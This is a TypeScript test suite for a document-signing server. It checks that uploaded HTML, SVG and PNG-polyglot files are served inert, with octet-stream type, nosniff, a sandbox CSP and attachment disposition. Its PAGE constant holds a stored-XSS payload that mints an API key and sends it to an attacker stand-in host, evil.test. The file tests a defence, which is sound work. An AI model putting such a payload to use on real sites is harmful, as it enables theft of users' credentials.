import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { makePdf, PNG_1PX } from '../helpers/pdf.js';
import { upload } from '../helpers/server.js';
import { aUser, withMail } from '../helpers/people.js';
import { anExternalShare } from '../helpers/sharing.js';
import { useServer } from '../helpers/use-server.js';

const PAGE = Buffer.from(
  '<!doctype html><script>fetch("/api/v1/api/key",{method:"POST"}).then(r=>r.text()).then(t=>fetch("https://evil.test/?k="+t))</script>',
);
const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/api/v1/api/key",{method:"POST"})</script></svg>',
);

/** What DESIGN requires of every answer carrying user-supplied bytes. */
function assertInert(response: { status: number; text: string; headers: Headers }, what: string): void {
  assert.equal(response.status, 200, `${what}: ${response.text}`);
  const type = response.headers.get('content-type') ?? '';
  assert.doesNotMatch(type, /html|svg|xml|javascript|text\//i, `${what}: answered as ${type}`);
  assert.equal(response.headers.get('x-content-type-options'), 'nosniff', what);
  assert.equal(response.headers.get('content-security-policy'), "sandbox; default-src 'none'", what);
  assert.match(response.headers.get('content-disposition') ?? '', /^attachment;/, what);
}

describe('DESIGN, files answered to a browser: user bytes never render on our origin', () => {
  const server = useServer({ smtp: true, env: { PUBLIC_URL: 'https://sign.example.test' } });
  let owner: string;
  before(async () => {
    owner = (await aUser(server, withMail('owner'))).token;
  });

  it("a file's type is decided from its bytes: a recipient's HTML or SVG upload declared text/html is answered as octet-stream, nosniff, sandboxed, attachment", async () => {
    const shared = await anExternalShare(server, owner, {
      title: 'Upload target',
      pdf: null,
      email: 'uploader@example.org',
      recipient: { rights: ['uploadFiles'] },
    });
    for (const [name, type, bytes] of [
      ['p.html', 'text/html', PAGE],
      ['p.svg', 'image/svg+xml', SVG],
      ['p.png', 'text/html', Buffer.concat([PNG_1PX, PAGE])],
    ] as const) {
      // As an image for `images` it is refused: it is no whole image (DESIGN: image uploads decode).
      const asImage = await server.api('POST', '/share/upload/file', {
        token: shared.link,
        form: { fields: {}, file: { name, type, bytes } },
      });
      assert.equal(asImage.status, 400, asImage.text);
      // As an attachment (any file, the share right uploadFiles) it is taken, and answered inert.
      const uploaded = await server.api('POST', '/share/upload/file', {
        token: shared.link,
        form: { fields: { attach: 'true' }, file: { name, type, bytes } },
      });
      assert.equal(uploaded.status, 200, uploaded.text);
      const path = `/files/loadFile/hash/${uploaded.body.file.id}`;
      // The recipient's link, as in the reproduction.
      assertInert(await server.api('GET', path, { token: shared.link }), `${name} by link`);
      const ranged = await server.api('GET', path, { token: shared.link, headers: { range: 'bytes=0-3' } });
      assert.equal(ranged.status, 206);
      assert.equal(ranged.headers.get('content-security-policy'), "sandbox; default-src 'none'");
    }
  });

  it("a recipient's stamp of PNG bytes followed by HTML is refused (not a whole image); a PNG declared text/html is answered as an image in a sandbox, as an attachment", async () => {
    const shared = await anExternalShare(server, owner, {
      title: 'Stamp target',
      pdf: null,
      email: 'stamper@example.org',
    });
    const uploaded = await server.api('POST', '/share/upload/stamp', {
      token: shared.link,
      form: {
        fields: { name: 'Seal' },
        file: { name: 'seal.png', type: 'text/html', bytes: Buffer.concat([PNG_1PX, PAGE]) },
      },
    });
    assert.equal(uploaded.status, 400, uploaded.text);
    const png = await server.api('POST', '/share/upload/stamp', {
      token: shared.link,
      form: { fields: { name: 'Seal' }, file: { name: 'seal.png', type: 'text/html', bytes: PNG_1PX } },
    });
    assert.equal(png.status, 200, png.text);
    const image = await server.api('GET', `/share/stamp/${png.body.id}`, { token: shared.link });
    assertInert(image, 'stamp');
    assert.equal(image.headers.get('content-type'), 'image/png');
  });

  it('a PDF keeps its type and may be shown inline, still sandboxed; an HTML upload by a user is no more than octet-stream', async () => {
    const pdf = await upload(server, owner, makePdf(), { type: 'text/html' });
    const shown = await server.api('GET', `/files/loadFile/hash/${pdf}`, { token: owner });
    assert.equal(shown.status, 200, shown.text.slice(0, 200));
    assert.equal(shown.headers.get('content-type'), 'application/pdf');
    assert.match(shown.headers.get('content-disposition') ?? '', /^inline;/);
    assert.equal(shown.headers.get('content-security-policy'), "sandbox; default-src 'none'");
    assert.equal(shown.headers.get('x-content-type-options'), 'nosniff');
  });

  it('every API answer, JSON and errors included, has nosniff, no referrer and a policy that loads and runs nothing', async () => {
    for (const response of [
      await server.api('GET', '/documents', { token: owner }),
      await server.api('GET', '/documents/nope', { token: owner }),
      await server.api('GET', '/no-such-route', { token: owner }),
    ]) {
      assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
      assert.equal(response.headers.get('referrer-policy'), 'no-referrer');
      assert.equal(
        response.headers.get('content-security-policy'),
        "default-src 'none'; frame-ancestors 'none'",
      );
    }
  });
});
